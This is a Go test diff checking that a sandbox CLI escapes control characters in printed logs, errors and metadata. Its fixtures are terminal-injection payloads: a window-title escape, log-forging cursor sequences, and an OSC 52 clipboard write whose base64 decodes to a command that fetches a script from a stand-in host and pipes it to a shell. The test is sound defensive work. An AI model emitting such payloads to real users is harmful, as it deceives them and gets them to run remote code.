@@ -1,6 +1,7 @@
 package main
 
 import (
+	"errors"
 	"os"
 	"path/filepath"
 	"strings"
@@ -239,6 +240,44 @@ func TestFormatLog(t *testing.T) {
 		`  INFO   process started  cmd="/bin/bash -l -c ls"  pid=12  tag=""`
 	if got := formatLog(e); got != want {
 		t.Errorf("formatLog:\n got %q\nwant %q", got, want)
+	}
+}
+
+// TestHumanOutputEscapesSandboxText: a log entry, an error and
+// metadata, as the CLI prints them, hold no control character whatever
+// the sandbox wrote (review finding C1): the review's window title (OSC
+// 0), clipboard write (OSC 52), and cursor-up, erase-line and carriage
+// return that forge the line before.
+func TestHumanOutputEscapesSandboxText(t *testing.T) {
+	const (
+		title     = "\x1b]0;pwned\a"
+		clipboard = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\a"
+		forge     = "\x1b[1A\x1b[2K\r2026-01-02T03:04:05.000Z  INFO   all good"
+		c1        = "\u009b31m\x9b"
+	)
+	e := sdk.LogEntry{Timestamp: time.Date(2026, 1, 2, 3, 4, 5, 0, time.Local), Level: "info" + title, Message: "m" + title + clipboard + forge,
+		Fields: map[string]string{"k" + forge: "v" + clipboard, "plain" + c1: "x" + c1}}
+	ts := time.Date(2026, 1, 2, 3, 4, 5, 0, time.Local).Format("2006-01-02T03:04:05.000Z07:00")
+	tests := []struct {
+		name, got, want string
+	}{
+		{"log entry", formatLog(e), ts + `  INFO\x1b]0;PWNED\a  m\x1b]0;pwned\a\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\a\x1b[1A\x1b[2K\r2026-01-02T03:04:05.000Z  INFO   all good` +
+			`  k\x1b[1A\x1b[2K\r2026-01-02T03:04:05.000Z  INFO   all good="v\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\a"  plain\u009b31m\x9b=x\u009b31m\x9b`},
+		{"error", errorLine(errors.New("in the sandbox: tar: " + forge + "\nsecond line")), `in the sandbox: tar: \x1b[1A\x1b[2K 2026-01-02T03:04:05.000Z INFO all good second line`},
+		{"metadata", formatPairs(map[string]string{"a" + title: "b" + clipboard}), `a\x1b]0;pwned\a=b\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\a`},
+		{"template", templateName(sdk.SandboxInfo{TemplateID: "base" + title}), `base\x1b]0;pwned\a`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.got != tt.want {
+				t.Errorf("got  %q\nwant %q", tt.got, tt.want)
+			}
+			for _, r := range tt.got {
+				if r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) {
+					t.Errorf("%q holds control character %U", tt.got, r)
+				}
+			}
+		})
 	}
 }
 
